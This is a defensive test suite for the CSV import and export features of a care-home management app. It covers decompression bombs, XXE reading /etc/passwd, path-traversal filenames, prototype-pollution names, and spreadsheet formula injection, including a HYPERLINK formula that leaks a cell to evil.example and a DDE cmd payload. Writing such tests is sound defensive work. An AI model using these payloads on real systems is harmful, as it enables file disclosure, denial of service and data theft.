import { randomUUID } from 'node:crypto';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readCsv } from '#platform/csv/read-csv.ts';
import { type TestApp, testApp } from '../harness/app.ts';
import type { Browser } from '../harness/browser.ts';
import { addHome, addPerson, addRole, addSmallHome, asSystem, type SmallHome } from '../harness/builders.ts';
import { addressOf, MOUNTED } from '../harness/every-page.ts';
import { fieldsOf, mainForm, textOf } from '../harness/forms.ts';
import { HOSTILE, markupIn } from '../harness/hostile.ts';
import { everythingOf } from '../harness/lived-in.ts';

/* Files that are no tables, and tables that are traps (ASVS 1.2.10, 5.2.1, 5.2.2, 5.2.3, 5.3.2). */

let kith: TestApp;
let home: SmallHome;
let manager: Browser;
beforeAll(async () => {
  kith = await testApp();
  home = await addSmallHome(kith.db);
  manager = await kith.signInAs({ providerId: home.providerId, personId: home.manager }, 'managed');
});
afterAll(() => kith.close());

/** Each table that is taken: its titles, and a row of it in which two cells are left to fill. */
const IMPORTS = [
  {
    path: '/people/import',
    head: 'First name,Last name,Role,Home,First day,Last day,Telephone,E-mail',
    row: (first: string, last: string) => `${first},${last},Support worker,Rowan House,,,,`,
  },
  {
    path: '/children/import',
    head: 'First name,Last name,Date of birth,Home,Placement,Lives here since,Authority,Authority telephone,Social worker first name,Social worker last name,Social worker telephone,Social worker e-mail',
    row: (first: string, last: string) =>
      `${first},${last},27/3/2013,Rowan House,planned,1/9/2026,Marlshire,,Dele,Ashdown,,`,
  },
] as const;

type File = { readonly bytes: Buffer; readonly name?: string; readonly type?: string };

async function upload(path: string, { bytes, name = 'table.csv', type = 'text/csv' }: File) {
  await manager.get(path);
  const field = (of: string, value: string) =>
    `--zz\r\ncontent-disposition: form-data; name="${of}"\r\n\r\n${value}\r\n`;
  const head = `${field('csrf', manager.csrf)}${field('submission', randomUUID())}${field('text', '')}--zz\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: ${type}\r\n\r\n`;
  const answer = await kith.app.inject({
    method: 'POST',
    url: path,
    payload: Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--zz--\r\n')]),
    headers: {
      host: 'localhost:3000',
      cookie: [...manager.cookies].map(([each, value]) => `${each}=${value}`).join('; '),
      'sec-fetch-site': 'same-origin',
      'content-type': 'multipart/form-data; boundary=zz',
    },
  });
  return { status: answer.statusCode, body: answer.body };
}

const HUGE = Buffer.alloc(100_000_000);
const bytesOf = (...first: readonly number[]) => Buffer.from([...first, ...Buffer.from('and more')]);
/** A ZIP whose one entry would unpack to a hundred megabytes. */
const zipBomb = () => {
  const packed = deflateRawSync(HUGE);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(HUGE.length, 22);
  return Buffer.concat([local, packed]);
};
const NO_TABLES: Readonly<Record<string, () => Buffer>> = {
  nothing: () => Buffer.alloc(0),
  'a workbook': () => bytesOf(0x50, 0x4b, 0x03, 0x04),
  'an old workbook': () => bytesOf(0xd0, 0xcf, 0x11, 0xe0),
  'a ZIP that would unpack to a hundred megabytes': zipBomb,
  'a gzip that would unpack to a hundred megabytes': () => gzipSync(HUGE),
  'a picture': () => bytesOf(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00),
  'a PDF': () => Buffer.from('%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript >> >>'),
  'a program': () => bytesOf(0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00),
  'a page': () => Buffer.from('<html><script>alert(1)</script></html>'),
  'XML that names a file': () =>
    Buffer.from('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  'a table with NUL bytes': () => Buffer.from('First name,Last name\nWren\0,Oakes\n'),
  'NUL as UTF-16': () => Buffer.from('\uFEFFFirst name,Last name\n\0\0,\0', 'utf16le'),
  'a quotation mark left open': () => Buffer.from(`First name,"${'x'.repeat(100_000)}`),
  'one line of two megabytes': () => Buffer.from('x'.repeat(2_000_000)),
  'a million columns': () => Buffer.from(','.repeat(1_000_000)),
  'names that reach for a prototype': () => Buffer.from('__proto__,constructor,toString\nx,y,z\n'),
};

describe.each(IMPORTS)('$path', ({ path, head, row }) => {
  test.each(
    Object.keys(NO_TABLES),
  )('ASVS 5.2.2, 5.2.3: %s: refused in words, fast, nothing kept', async (what) => {
    const before = await everythingOf(kith, home.providerId);
    const bytes = NO_TABLES[what]?.() ?? Buffer.alloc(0);
    const used = process.cpuUsage();
    const answer = await upload(path, { bytes });
    const { user, system } = process.cpuUsage(used);
    expect(answer.status).toBe(422);
    expect(textOf(answer.body)).toContain('There is a problem');
    expect(markupIn(answer.body)).toEqual([]);
    expect((user + system) / 1_000_000, 'seconds of work').toBeLessThan(2);
    expect(await everythingOf(kith, home.providerId)).toEqual(before);
  });

  test('ASVS 5.2.1: one byte over four megabytes of it, or more rows than are taken at once, is not read', async () => {
    const before = await everythingOf(kith, home.providerId);
    expect((await upload(path, { bytes: Buffer.alloc(4 * 1024 * 1024, 'x') })).status).toBe(413);
    const rows = Array.from({ length: 5_001 }, (_, n) => row('Wren', `Oakes${n}`));
    const many = await upload(path, { bytes: Buffer.from([head, ...rows].join('\n')) });
    expect([many.status, textOf(many.body).includes('5000 rows or fewer')]).toEqual([422, true]);
    expect(await everythingOf(kith, home.providerId)).toEqual(before);
  });

  test('ASVS 5.3.2: what a file says of its name and kind is nowhere believed or repeated', async () => {
    const bytes = Buffer.from([head, row('Wren', 'Oakes')].join('\n'));
    for (const [name, type] of [
      ['../../../etc/cron.d/kith', 'application/x-sh'],
      ['kith-probe.html', 'text/html'],
      ['staff.csv%00.exe', 'application/x-msdownload'],
      [`${'x'.repeat(5_000)}.csv`, 'image/svg+xml'],
    ] as const) {
      const answer = await upload(path, { bytes, name, type });
      expect([answer.status, textOf(answer.body).includes('Wren Oakes')]).toEqual([200, true]);
      expect(answer.body).not.toContain(name);
    }
  });

  test.each(
    Object.entries(HOSTILE),
  )('%s in the cells and titles: no fault, no markup', async (_name, text) => {
    const cell = `"${text.replaceAll('"', '""')}"`;
    for (const lines of [
      [head, row(cell, cell)],
      [`${head},${cell}`, `${row('Wren', 'Oakes')},${cell}`],
      [cell, cell],
    ]) {
      const answer = await upload(path, { bytes: Buffer.from(lines.join('\n')) });
      expect([200, 422]).toContain(answer.status);
      expect(markupIn(answer.body)).toEqual([]);
    }
  });
});

const FORMULAS = [
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
] as const;

describe('cells that a spreadsheet would run', () => {
  test('ASVS 1.2.10: are kept as the words that they are, and shown as text', async () => {
    const [{ path, head, row }] = IMPORTS;
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const rows = FORMULAS.map((text, n) => row(quoted(text.slice(0, 60)), `Qx${n}`));
    const shown = await upload(path, { bytes: Buffer.from([head, ...rows].join('\n')) });
    expect(shown.status).toBe(200);
    const form = mainForm(shown.body, path);
    if (!form) throw new Error('no form');
    const done = await manager.post(path, { ...fieldsOf(form), mode: 'import' });
    expect(done.status).toBe(303);
    const people = await asSystem(kith.db, home.providerId, (tx) =>
      tx.selectFrom('kith.person').select('given_name').where('family_name', 'like', 'Qx%').execute(),
    );
    expect(people.map((each) => each.given_name).toSorted()).toEqual(
      FORMULAS.map((text) => text.trim()).toSorted(),
    );
    const listed = await manager.get('/people');
    expect(textOf(listed.body)).toContain('=cmd|"/c calc"!A1 Qx1');
  });

  test('ASVS 1.2.10: every file that Kith writes has none, whatever people and homes are called', async () => {
    const files = MOUNTED.filter(({ isFile }) => isFile);
    expect(files.map(({ pattern }) => pattern).toSorted()).toEqual([
      '/children/import/template',
      '/people/import/template',
    ]);
    const { providerId } = home;
    const homeId = await addHome(kith.db, providerId, '=1+1');
    const personId = await addPerson(kith.db, providerId, {
      role: 'registered-manager',
      homeId,
      givenName: '@SUM(1)',
      familyName: '=2+2',
    });
    await addRole(kith.db, providerId, personId, { role: 'responsible-individual' });
    const browser = await kith.signInAs({ providerId, personId });
    for (const { pattern } of files) {
      const { body, headers } = await browser.get(addressOf(pattern, {}));
      expect(headers['content-disposition']).toMatch(/^attachment; filename="kith-[a-z]+\.csv"$/);
      const lines = body.replace('\uFEFF', '').split(/\r\n/);
      for (const cell of lines.flatMap((line) => line.split(',')))
        expect(cell).not.toMatch(/^"?[=+\-@\t\r\n＝＋－＠]/);
      const read = readCsv(body);
      expect('header' in read && read.header.length).toBeGreaterThan(7);
    }
  });
});
